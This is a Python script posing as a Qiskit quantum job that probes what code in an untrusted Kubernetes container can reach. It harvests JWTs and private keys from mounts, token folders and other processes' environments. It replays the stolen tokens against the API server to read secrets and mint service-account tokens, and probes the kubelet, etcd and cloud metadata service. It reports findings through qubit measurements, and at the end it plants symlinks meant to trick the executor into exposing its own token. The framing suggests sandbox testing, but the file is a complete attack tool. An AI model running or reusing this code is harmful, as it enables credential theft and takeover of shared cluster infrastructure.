"""A circuit that looks around: what can code in the untrusted container reach?

Every check is one qubit, and every finding turns its qubit to 1. The counts therefore say
which checks found something, over a channel that this code does not control; what it prints
says what.
"""

import json
import os
import re
import socket
import ssl
import struct
import urllib.error
import urllib.request
from pathlib import Path

from qiskit import QuantumCircuit

# A signed token, or a private key.
SECRET = re.compile(
    rb"eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{8,}|-----BEGIN [A-Z ]*PRIVATE KEY-----", re.ASCII
)
NAMED = re.compile(r"token|secret|passw|credential|api.?key", re.IGNORECASE)
TOKEN_FOLDERS = ("/var/run/secrets", "/run/secrets", "/quantum/token")
OURS = ("/tmp", "/quantum/work")
# The pod's own scratch memory, which the executor does not read.
SCRATCH = ("/dev/shm", "/dev/mqueue")
tokens = [""]  # without one comes first


def content(path, limit=4 << 20):
    """What is in a file, as far as it can be read."""
    try:
        with Path(path).open("rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def secrets_in(path):
    """The secrets in a file; they are kept, to be tried on the API server."""
    found = SECRET.findall(content(path))
    tokens.extend(each.decode() for each in found if each.startswith(b"eyJ"))
    return [f"{path}: {each[:12]!r}..." for each in found]


def files_below(folder):
    for place, _, names in os.walk(folder):
        for name in names:
            path = Path(place, name)
            if path.is_file():
                yield str(path)


def mounts():
    lines = content("/proc/self/mountinfo").decode().splitlines()
    return sorted({line.split()[4] for line in lines} - {"/"})


def token_folders():
    """Where tokens are in pods, ours among them."""
    found = []
    for folder in TOKEN_FOLDERS:
        if os.path.lexists(folder):
            found.append(f"{folder} exists")
        for path in files_below(folder):
            secrets_in(path)
            found.append(path)
    return found


def mounted_volumes():
    """Everything that was mounted, and the places where secrets are left in images."""
    found = []
    for place in (*mounts(), "/etc", "/home", "/root", "/run", "/var"):
        if place.startswith(("/proc", "/sys")):
            continue
        print("looked into", place)
        for path in [place] if Path(place).is_file() else files_below(place):
            found += secrets_in(path)
    return found


def environments():
    """Of this process and of every other that can be seen."""
    found = [f"{name} is set" for name in os.environ if NAMED.search(name)]
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        text = content(entry / "environ")
        print(f"/proc/{entry.name}/environ:", f"{len(text)} bytes" if text else "unreadable")
        found += secrets_in(entry / "environ")
        names = [each.partition(b"=")[0].decode() for each in text.split(b"\0")]
        found += [f"{name} is set in {entry}" for name in names if NAMED.search(name)]
    return found


def parent_process():
    """The process that started this one: its memory and its open files."""
    found = []
    for name in ("mem", "maps", "environ"):
        if content(f"/proc/1/{name}", 1):
            found.append(f"/proc/1/{name} can be read")
    for name in ("root", "cwd", "exe", "fd"):
        try:
            path = Path("/proc/1", name)
            print(list(path.iterdir()) if name == "fd" else path.readlink())
            found.append(f"{path} can be followed")
        except OSError:
            pass
    return found


def gateway():
    """The node, as the routing table names it."""
    for line in content("/proc/net/route").decode().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
    return "10.88.0.1"


def ask(url, token="", body=None):
    """The HTTP status of a request, or None without an answer."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(url, data=body, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=3, context=context) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return None


def api_servers():
    found = {"10.96.0.1:443", "kubernetes.default:443", f"{gateway()}:6443"}
    text = content("/proc/1/environ") + content("/proc/self/environ")
    for host in re.findall(rb"KUBERNETES_SERVICE_HOST=([^\0]+)", text):
        found.add(f"{host.decode()}:443")
    return sorted(found)


def api_server():
    """Without a token and with whatever was found."""
    namespace = json.loads(content("/quantum/input/plan.json"))["job"]["namespace"]
    here = f"/api/v1/namespaces/{namespace}"
    paths = {
        f"{here}/secrets": None,
        f"{here}/configmaps": None,
        f"{here}/pods": None,
        f"{here}/serviceaccounts/default/token": b"{}",
        f"/apis/quantum.io/v1/namespaces/{namespace}/qiskitjobs": None,
        "/api/v1/nodes": None,
    }
    found = []
    for server in api_servers():
        for path, body in paths.items():
            for token in tokens:
                status = ask(f"https://{server}{path}", token, body)
                print(f"API server {server}{path}: {status}")
                if status is not None and status < 400:
                    found.append(f"{path} from {server}: {status}")
            if status is None:
                break
    return found


def kubelet_and_cloud():
    """The node's own API, and the metadata service that clouds put beside it."""
    node = gateway()
    urls = (
        f"https://{node}:10250/pods",
        f"http://{node}:10255/pods",
        f"http://{node}:2379/version",
        "http://169.254.169.254/latest/meta-data/",
    )
    found = []
    for url in urls:
        status = ask(url)
        print(f"{url}: {status}")
        if status is not None and status < 400:
            found.append(f"{url}: {status}")
    return found


def privileges():
    """What the kernel would let this process do."""
    status = dict(
        line.split(":\t", 1) for line in content("/proc/self/status").decode().splitlines()
    )
    wanted = {"CapEff": "0" * 16, "CapBnd": "0" * 16, "NoNewPrivs": "1", "Seccomp": "2"}
    found = [
        f"{name} is {status.get(name)}" for name, value in wanted.items() if status[name] != value
    ]
    return found + ["runs as root"] * (os.getuid() == 0)


def writing_outside():
    """A new file in every folder that there is."""
    found = []
    for place, folders, _ in os.walk("/"):
        if place == "/":
            folders[:] = [each for each in folders if each not in ("proc", "sys")]
        probe = Path(place, f".intruder-{os.getpid()}")
        try:
            probe.write_bytes(b"was here")
            probe.unlink()
        except OSError:
            continue
        print("can write to", place)
        if not (place + "/").startswith(tuple(each + "/" for each in (*OURS, *SCRATCH))):
            found.append(place)
    return found


def changing_input():
    """The plan and the code, which the executor trusts."""
    found = []
    for path in files_below("/quantum/input"):
        try:
            with Path(path).open("ab"):
                found.append(f"{path} can be written")
        except OSError:
            continue
    return found


CHECKS = (
    token_folders,
    mounted_volumes,
    environments,
    parent_process,
    api_server,
    kubelet_and_cloud,
    privileges,
    writing_outside,
    changing_input,
)

qc = QuantumCircuit(len(CHECKS), len(CHECKS))
for number, check in enumerate(CHECKS):
    found = check()
    for each in found:
        print(f"FOUND by {check.__name__}: {each}")
    if found:
        qc.x(number)
qc.measure(range(len(CHECKS)), range(len(CHECKS)))

# Not a check but a trap: whoever follows these in the executor shows its token.
for name in ("circuit.qpy", "outcome.json", "plan.json"):
    Path("/quantum/work", name).symlink_to("/quantum/token/token")
Path("/quantum/work/token").symlink_to("/quantum/token")
print("checks:", " ".join(check.__name__ for check in CHECKS))
